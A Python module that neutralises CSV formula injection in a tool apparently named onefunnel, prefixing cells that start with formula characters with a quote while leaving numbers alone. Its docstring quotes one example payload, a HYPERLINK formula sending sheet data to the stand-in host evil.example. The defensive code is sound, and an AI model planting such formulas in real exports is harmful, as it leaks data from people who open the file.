"""CSV cells that a spreadsheet will not run: formula injection neutralised, in one place.

A spreadsheet opening a CSV file treats a cell starting with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return) as a formula: a UTM campaign sent as
``=HYPERLINK("https://evil.example?"&A1, "click")`` would become a live link that leaks the
sheet. Every CSV onefunnel writes — reports, ``--format csv``, import rejects — passes its cells
through :func:`neutralise`, which prefixes such text with a single quote, as OWASP's guidance
on CSV injection recommends. Numbers are left alone (``-12.5`` is a number, not a formula),
whether they come as numbers or as text that is only a number.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: object) -> object:
    """The value to write in a CSV cell: text a spreadsheet would run as a formula gets a
    leading ``'``; anything else (numbers, dates, None, ordinary text) is returned as is."""
    text = isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
    if text and not _NUMBER.fullmatch(str(value)):
        return "'" + str(value)
    return value


def neutralised_row(values: Iterable[object]) -> list[object]:
    """A whole CSV row through :func:`neutralise`."""
    return [neutralise(v) for v in values]
